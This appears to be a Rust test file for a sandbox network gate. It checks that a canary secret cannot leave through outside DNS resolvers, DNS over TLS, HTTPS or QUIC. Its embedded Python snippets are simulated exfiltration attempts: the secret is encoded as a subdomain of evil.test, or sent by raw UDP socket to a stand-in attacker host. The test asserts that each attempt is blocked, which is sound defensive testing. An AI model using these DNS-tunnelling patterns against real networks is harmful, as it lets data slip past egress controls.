//! EG03: DNS by other ways. Whatever address port 53 is asked at, the gate answers by the same rules;
//! DoT, DoQ and DoH to an address are refused or dropped.

use den_testkit::Site;

use crate::world::{World, answered, blocked, canary, refused};

#[test]
fn no_other_resolver_is_reached() {
    let world = World::guarded(&["good.test"]);
    let secret = canary();
    let seen = world.run(
        "c",
        &format!(
            "for to in ('8.8.8.8', '1.1.1.1', '{{evil}}', '{{dns}}'):\n\
             \x20for tcp in (False, True):\n\
             \x20\x20say(**dns('{secret}.evil.test', 16, to=to, tcp=tcp))"
        ),
    );
    assert_eq!(seen.len(), 8);
    seen.iter().for_each(blocked);
    world.denied("c", "dns", "no_rule", &secret);

    // DNS over TLS and over HTTPS, to an address: by address nothing is allowed.
    let seen = world.run(
        "c",
        &format!(
            "for to in ('{{evil}}', '{{dns}}', '{{good}}'):\n\
             \x20say(**fate(to, 853, b'{secret}'))\n\
             \x20say(**tls(to, '{secret}.evil.test', path='/dns-query'))\n\
             \x20say(**tls(to, None, host='dns', path='/dns-query'))"
        ),
    );
    assert_eq!(seen.len(), 9);
    seen.iter().for_each(refused);
    world.denied("c", "open", "ip_literal", "{evil}:853");
    world.denied("c", "open", "ip_literal", "{dns}:443");

    // DNS over QUIC: no UDP but to port 53 goes anywhere. 443 is refused, so that clients fall back.
    let seen = world.run(
        "c",
        &format!(
            "for port in (853, 784, 8853, 443):\n\
             \x20s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect(('{{evil}}', port))\n\
             \x20try: s.send(b'{secret}'); s.recv(9); say(end='answer')\n\
             \x20except OSError as e: say(end=how(e))"
        ),
    );
    assert!(seen.iter().all(|seen| seen["end"] == "silent" || seen["end"] == "refused"), "{seen:?}");
    world.untouched(Site::Evil);
    world.untouched(Site::Dns);
    world.no_leak(&secret);

    // The gate's resolver answers in the place of any other, from the address that was asked.
    let seen = world.run(
        "c",
        "r = dns('good.test', to='8.8.8.8')\nsay(**r)\nsay(**dns('good.test', to='{evil}', tcp=True))\nsay(**get(r['addresses'][0], 'good.test'))",
    );
    assert_eq!(seen[0]["addresses"], seen[1]["addresses"]);
    answered(&seen[2]);
}
